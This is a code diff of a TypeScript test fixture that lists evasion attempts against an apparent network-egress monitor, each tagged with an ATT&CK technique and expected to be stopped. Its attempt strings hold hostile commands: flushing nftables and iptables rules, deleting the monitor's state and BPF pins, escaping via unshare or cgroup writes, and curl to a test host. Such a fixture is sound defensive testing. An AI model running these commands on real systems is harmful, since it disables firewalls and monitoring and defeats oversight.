@@ -1,10 +1,9 @@
-import { elsewhere, passes, STOPPED, type Attack } from './attack.ts'
+import { elsewhere, EVERYWHERE, passes, STOPPED, type Attack } from './attack.ts'
 
 const NOBODY = 'setpriv --reuid=65534 --regid=65534 --clear-groups'
 const GET = 'curl -sS -m 5 http://198.51.100.20/'
 const plain = { says: /hello from/ } as const
 const flows = /^198\.51\.100\.20 80$/
-const everywhere = { endpoint: STOPPED, gateway: STOPPED, run: STOPPED } as const
 const FETCH = '-sS -m 5 http://198.51.100.20/'
 
 /** Being another process, or doing away with who watches. */
@@ -17,7 +16,7 @@ export const PROCESSES: readonly Attack[] = [
     attempt: `./copy ${FETCH}`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1036.003 Rename Legitimate Utilities',
@@ -27,7 +26,7 @@ export const PROCESSES: readonly Attack[] = [
     attempt: `bash -c 'exec -a "$PWD/fetch" ./copy ${FETCH}'`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1059.004 Unix Shell',
@@ -37,7 +36,7 @@ export const PROCESSES: readonly Attack[] = [
     attempt: `sh -c 'exec ./copy ${FETCH}'`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1202 Indirect Command Execution',
@@ -47,7 +46,7 @@ export const PROCESSES: readonly Attack[] = [
     attempt: `(setsid ${GET} &); sleep 1`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1548.001 Setuid and Setgid',
@@ -57,7 +56,7 @@ export const PROCESSES: readonly Attack[] = [
     attempt: `${NOBODY} ${GET}`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1611 Escape to Host',
@@ -67,7 +66,7 @@ export const PROCESSES: readonly Attack[] = [
     attempt: `${NOBODY} unshare --user --map-root-user ${GET}`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1562.001 Disable or Modify Tools',
@@ -77,7 +76,7 @@ export const PROCESSES: readonly Attack[] = [
     attempt: `${NOBODY} sh -c 'echo $$ >"$OUTSIDE/cgroup.procs"; ${GET}'`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1562.001 Disable or Modify Tools',
@@ -105,7 +104,7 @@ s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
 print(s.recv(999).decode())'`,
     through: plain,
     flows: /^198\.51\.100\.50 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1562.004 Disable or Modify System Firewall',
@@ -115,7 +114,7 @@ print(s.recv(999).decode())'`,
     attempt: `nft flush ruleset; iptables-nft -t raw -F; ip6tables-nft -t raw -F; ${GET}`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1562.001 Disable or Modify Tools',
@@ -125,7 +124,7 @@ print(s.recv(999).decode())'`,
     attempt: `${NOBODY} sh -c 'rm -rf "$STATE"/* /sys/fs/bpf/sallyport 2>/dev/null; ${GET}'`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1562.001 Disable or Modify Tools',
@@ -147,6 +146,6 @@ print(s.recv(999).decode())'`,
     attempt: `mv tool renamed; ./renamed ${FETCH}`,
     through: plain,
     flows,
-    ...everywhere,
+    ...EVERYWHERE,
   },
 ]
